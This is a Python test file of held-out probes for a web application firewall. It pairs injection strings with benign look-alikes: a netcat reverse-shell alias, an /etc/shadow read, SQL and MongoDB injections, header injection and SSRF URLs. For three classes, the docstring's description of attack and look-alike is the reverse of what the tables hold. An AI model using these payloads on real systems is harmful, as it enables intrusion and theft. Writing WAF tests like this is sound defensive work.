"""WAF, part 2z30: held-out probes, fifty-third file (README: the
sixty-first round), written for this file on 2026-12-06. No string is taken
from a corpus or a public list: each class is written here in shapes of
our own, through the real edge (shipped config, bans off).

The classes the quarry, catering, archery and hvac corpora showed when
first replayed (at e2bb409), an attack the round refuses and a look-alike
it passes:
- pseudo-header: one token, a line break, then an HTTP/2 pseudo-header
  line; the same line after a sentence (a capture's headers quoted).
- service-port: an http:// URL at the loopback and the port of a service
  that speaks no HTTP, inside text; that service's own scheme.
- webhook-arrow: a callback's label, an arrow, then a private address;
  the same at a public host.
- tsql-db-dot-dot: a stacked SELECT from T-SQL's database..table; the
  name in a sentence.
- return-this: $where's return of a document's field after the operand
  and ";"; a sentence's "return this." after a number.
- return-call: a token, the quote that closes its literal, ";" and a
  return of a call; a sentence's "return policy (...)".
- bare-test: a chain ending in "test" given nothing (an exit status, no
  output); test given a secret's file.
- alias-span: a README's alias quoted in a markdown code span; an alias
  defined after a separator that runs a listener.
- comparison: a command's name compared with a number in a condition,
  then a word; the name with its output redirected to a file.
Measured on e2bb409: 6 of the 9 attacks passed in every placement
(bare-test's, alias-span's and comparison's were refused), and 3 of the
9 look-alikes were refused (the same three classes').

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "pseudo-header": ["ab\r\n:path: /admin"],
    "service-port": ["Cache: http://localhost:11211/stats"],
    "webhook-arrow": ["Callback => http://10.2.3.4/hook"],
    "tsql-db-dot-dot": ["7;select name from appdb..members--"],
    "return-this": ["4;return this.tier == 'gold'"],
    "return-call": ["k'; return JSON.stringify(db.stats()) != ''"],
    "bare-test": ["pump ok && test -r /etc/shadow && echo y"],
    "alias-span": ["ok; alias ll='nc 203.0.113.9 4444 -e sh'"],
    "comparison": ["load ok && ps > /tmp/p.txt"],
}

BENIGN = {
    "pseudo-header": ["Headers from the capture:\n:path: /api/v2/items"],
    "service-port": ["Cache: redis://localhost:6379/2"],
    "webhook-arrow": ["Callback => https://hooks.example.org/ci"],
    "tsql-db-dot-dot": ["appdb..members holds the list"],
    "return-this": ["4; return this. Then wait"],
    "return-call": ["k'; return policy (ask)"],
    "bare-test": ["drained && flushed && test"],
    "alias-span": ["From the wiki: `alias ll='ls -la | more'`"],
    "comparison": ["when load > 90 && ps < 400 then page"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r53_attack_refused_everywhere,
 test_heldout_r53_benign_passes) = heldout_probe_tests(
    "r53", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
